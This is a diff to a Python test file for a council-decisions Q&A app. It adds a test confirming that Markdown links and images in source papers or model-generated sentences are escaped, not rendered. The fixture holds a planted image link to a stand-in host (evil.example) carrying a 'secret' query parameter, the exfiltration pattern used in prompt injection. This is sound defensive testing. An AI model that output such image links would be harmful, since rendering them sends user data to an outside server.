@@ -14,7 +14,7 @@ from councilqa.app.present import (
     resolution_cards,
 )
 from councilqa.app.resolutions import list_decisions
-from councilqa.records import DecisionFilter, SearchFilter
+from councilqa.records import DecisionFilter, Quote, SearchFilter, Sentence
 
 
 @pytest.fixture(scope="module")
@@ -98,3 +98,13 @@ def test_resolution_cards_show_the_vote_and_movers(sample_index):
     assert "<span class=cq-meeting>Cabinet · 2026-03-12 · 39. Household Waste Collection Contract</span>" in html
     html, refs = resolution_cards([])
     assert refs == {} and "0 decisions" in html
+
+
+def test_markdown_in_a_paper_or_a_models_sentence_does_nothing(tariff):
+    """A link or image written in a paper (or in a model's sentence) shows as written: no image loads from
+    another site when the answer is shown."""
+    planted = "See ![chart](https://evil.example/a.png?q=secret) and [this](https://evil.example)."
+    shown = chat_markdown(replace(tariff, quotes=(Quote(1, planted),)))
+    assert "](https://" not in shown and "\\!\\[chart\\]\\(https://evil.example/a.png?q=secret\\)" in shown
+    prose = replace(tariff, answer_mode="prose", sentences=(Sentence(planted, (1,)),))
+    assert "](https://" not in chat_markdown(prose)
